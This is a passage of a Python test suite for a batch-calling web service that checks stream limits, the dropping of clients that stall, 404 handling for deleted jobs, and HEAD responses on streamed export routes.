    async def looked_several_times() -> bool:
        return failed >= 3

    await wait_until(looked_several_times)
    store.find_api_key = real_find  # type: ignore[method-assign]
    await post(running, f"/batch/jobs/{job_id}/pause", {"reason": "lunch"})
    assert (await anext(events))[1]["status"] == "paused"
    resp.close()


async def test_exports_count_with_the_streams_an_organization_holds(
    start_app: StartApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An export is written as fast as its client reads: a client that never reads holds its
    connection, so exports count against the same caps as live-progress streams."""
    monkeypatch.setattr(controls, "EVENT_CHECK_SECONDS", 0.01)  # (wall-clock pacing)
    config = make_config(tmp_path, server={"max_event_streams_per_organization": 1})
    running = await start_app(config)
    job_id = (await running.create_json(phones(2), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    stream = await running.client.get(f"/batch/jobs/{job_id}/events", headers=running.headers())
    assert stream.status == 200
    for path in (
        f"/batch/jobs/{job_id}/export",
        "/calls/export",
        f"/v1/convai/batch-calling/{job_id}",
    ):
        refused = await running.client.get(path, headers=running.headers())
        assert refused.status == 429
        answer = await refused.json()  # (the compatibility route's in ElevenLabs' shape)
        assert answer.get("code", answer.get("detail", {}).get("status")) == "too_many_streams"
    stream.close()

    async def freed() -> bool:
        return not running.app[controls.OPEN_STREAMS]

    await wait_until(freed)
    export = await running.client.get(f"/batch/jobs/{job_id}/export", headers=running.headers())
    assert export.status == 200
    assert len(parse_csv(await export.text())) == 2
    assert not running.app[controls.OPEN_STREAMS]  # counted while written, not after


async def test_a_control_on_a_job_gone_meanwhile_is_404(running: Running) -> None:
    """A job deleted between a pause's first look and its write: 404 job_not_found, as for a
    request after the delete (not `400 ... Batch job is None`)."""
    job_id = (await running.create_json(phones(1), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]

    async def gone(*args: Any, **kwargs: Any) -> tuple[bool, str | None]:
        return False, None  # what the store answers once the job's row is gone

    running.store.pause_job = gone  # type: ignore[method-assign]
    running.store.resume_job = gone  # type: ignore[method-assign]
    real_get = running.app[appkeys.SERVICE].get
    calls = 0

    async def get_then_gone(org: str, job: str) -> Any:
        nonlocal calls
        calls += 1
        if calls % 2 == 0:  # the look after the write
            raise ServiceError(404, "job_not_found", "Batch job not found")
        return await real_get(org, job)

    running.app[appkeys.SERVICE].get = get_then_gone  # type: ignore[method-assign]
    for action in ("pause", "resume"):
        status, body = await post(running, f"/batch/jobs/{job_id}/{action}")
        assert (status, body["code"]) == (404, "job_not_found"), body


async def _never_reading(
    running: Running, path: str, close: bool = False
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection that asks for `path` and then reads nothing (a small receive buffer; and
    with `close`, asks for the connection to be closed after the answer)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    server = running.client.server
    await asyncio.get_running_loop().sock_connect(sock, (server.host, server.port or 0))
    reader, writer = await asyncio.open_connection(sock=sock)
    head = f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nx-api-key: {running.key}\r\n"
    head += "Connection: close\r\n\r\n" if close else "\r\n"
    writer.write(head.encode())
    await writer.drain()
    return reader, writer


async def _read_to_end(reader: asyncio.StreamReader) -> int:
    """Bytes read until the server closed or reset the connection."""
    got = 0
    with contextlib.suppress(ConnectionError):
        while chunk := await reader.read(65536):
            got += len(chunk)
    return got


def _small_send_buffers(monkeypatch: pytest.MonkeyPatch) -> None:
    """Streamed answers go out through a small send buffer (as over a slow link), so that a
    client that reads nothing holds them up after a few hundred KB rather than megabytes."""
    prepare = web.StreamResponse.prepare

    async def small(self: web.StreamResponse, request: web.BaseRequest) -> Any:
        transport = request.transport
        sock = transport.get_extra_info("socket") if transport is not None else None
        if sock is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
        return await prepare(self, request)

    monkeypatch.setattr(web.StreamResponse, "prepare", small)


@pytest.mark.parametrize(
    "route", ["/batch/jobs/{}/export", "/v1/convai/batch-calling/{}", "/calls/export"]
)
async def test_an_export_never_read_is_dropped_and_frees_its_place(
    start_app: StartApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, route: str
) -> None:
    """A client that asks for an export and reads none of it held its connection (and one of its
    organization's streams) for as long as it liked: once nothing of the answer is taken for
    STREAM_STALL_SECONDS, it is dropped, and its place is free again for one that reads."""
    monkeypatch.setattr(controls, "STREAM_STALL_SECONDS", 0.05)  # (wall-clock: the socket's)
    _small_send_buffers(monkeypatch)
    streams = {"max_event_streams_per_organization": 1}
    running = await start_app(make_config(tmp_path, server=streams))
    note = "x" * 200  # 3,000 contacts: exports of ~1 MB, call records of ~450 KB
    contacts = [{"phone": p["phone"], "note": note} for p in phones(3000, start=1000)]
    job_id = (await running.create_json(contacts, concurrentCallLimit=50))["batchJobId"]
    for _ in range(100):  # a second at a time: the caller number's 1,000 tokens come back
        if (await running.detail(job_id))["status"] == "completed":
            break
        await running.clock.advance(1.0)
    else:
        raise AssertionError("the job did not complete")
    path = route.format(job_id)
    reader, stalled = await _never_reading(running, path)
    try:
        with capture_logs() as logs:

            async def dropped() -> bool:
                return bool(logs) and not running.app[controls.OPEN_STREAMS]

            await wait_until(dropped)
        assert [e["event"] for e in logs] == ["stream_client_stalled"]
        cut_at = await asyncio.wait_for(_read_to_end(reader), 10)  # closed: not all of it sent
    finally:
        stalled.transport.abort()
    monkeypatch.undo()  # sockets and the stall limit as they are
    resp = await running.client.get(path, headers=running.headers())  # its place is free
    assert resp.status == 200
    answer = await resp.text()
    assert cut_at < len(answer.encode())
    if "convai" in route:
        assert len(json.loads(answer)["recipients"]) == 3000
    else:
        assert len(parse_csv(answer)) == 3000


def _unchunked(raw: bytes) -> bytes:
    """The body of an HTTP/1.1 answer in chunked transfer encoding."""
    rest = raw.split(b"\r\n\r\n", 1)[1]
    body = bytearray()
    while True:
        size_line, rest = rest.split(b"\r\n", 1)
        size = int(size_line, 16)
        if size == 0:
            return bytes(body)
        body += rest[:size]
        rest = rest[size + 2 :]


async def test_a_slow_reader_is_never_dropped(
    start_app: StartApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A client that keeps reading, however slowly, gets the whole export: only one that takes
    nothing for STREAM_STALL_SECONDS is dropped. It was dropped once one write had waited that
    long, though the client was reading all along (a slow reader drains a full send queue, and
    the system says there is room again only after a third of it)."""
    monkeypatch.setattr(controls, "STREAM_STALL_SECONDS", 0.5)  # (wall-clock: the socket's)
    _small_send_buffers(monkeypatch)
    running = await start_app(make_config(tmp_path))
    note = "x" * 800  # 1,000 contacts: an export of ~850 KB, in chunks of ~425 KB
    contacts = [{"phone": p["phone"], "note": note} for p in phones(1000, start=1000)]
    job_id = (await running.create_json(contacts, concurrentCallLimit=50))["batchJobId"]
    await running.wait_status(job_id, "completed")
    path = f"/batch/jobs/{job_id}/export"
    with capture_logs() as logs:
        reader, writer = await _never_reading(running, path, close=True)
        raw = bytearray()
        try:  # 8 KB every 20 ms (~400 KB/s): a chunk takes ~1 s to be taken
            while piece := await reader.read(8 * 1024):
                raw += piece
                await asyncio.sleep(0.02)
        finally:
            writer.transport.abort()
    assert [e["event"] for e in logs if e["event"] == "stream_client_stalled"] == []
    assert len(parse_csv(_unchunked(bytes(raw)).decode())) == 1000


async def _answer_head(reader: asyncio.StreamReader) -> tuple[bytes, dict[str, str]]:
    """The status line and headers of the next answer on a raw connection."""
    async with asyncio.timeout(5):
        status = await reader.readline()
        assert status.startswith(b"HTTP/1.1 "), status[:80]
        headers: dict[str, str] = {}
        while (line := await reader.readline()) not in (b"\r\n", b""):
            name, _, value = line.decode("latin-1").partition(":")
            headers[name.strip().lower()] = value.strip()
    return status.rstrip(), headers


@pytest.mark.parametrize(
    "route",
    [
        "/batch/jobs/{}/export",
        "/batch/jobs/{}/events",
        "/v1/convai/batch-calling/{}/export",
        "/v1/convai/batch-calling/{}",
        "/v1/voiceai/batch-calling/{}",
        "/calls/export",
    ],
)
async def test_head_on_a_streamed_route_answers_headers_only_and_keeps_the_connection(
    running: Running, route: str
) -> None:
    """HEAD on a streamed answer (exports, the compatibility batch, live progress): the GET's
    status and headers, no body, and the keep-alive connection serves its next request. The
    body was written after the headers (no length, no chunked framing), so the next answer on
    the connection began with CSV (`BadStatusLine('attempt_1,...')` in http.client)."""
    job_id = (await running.create_json(phones(2), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    path = route.format(job_id)
    server = running.client.server
    assert server.port is not None
    reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
    try:
        head = f"HEAD {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nx-api-key: {running.key}\r\n\r\n"
        writer.write(head.encode() + b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        status, head_headers = await _answer_head(reader)
        assert status == b"HTTP/1.1 200 OK"
        assert "transfer-encoding" not in head_headers
        status, headers = await _answer_head(reader)  # the next answer, not the HEAD's body
        assert status == b"HTTP/1.1 200 OK"
        body = await asyncio.wait_for(reader.readexactly(int(headers["content-length"])), 5)
        assert json.loads(body)["ok"] is True
        assert not running.app[controls.OPEN_STREAMS]  # the HEAD holds no stream
    finally:
        writer.close()
    got = await running.client.get(path, headers=running.headers())
    assert got.status == 200
    for name in ("content-type", "content-disposition", "cache-control"):
        assert head_headers.get(name) == got.headers.get(name), name
    got.close()
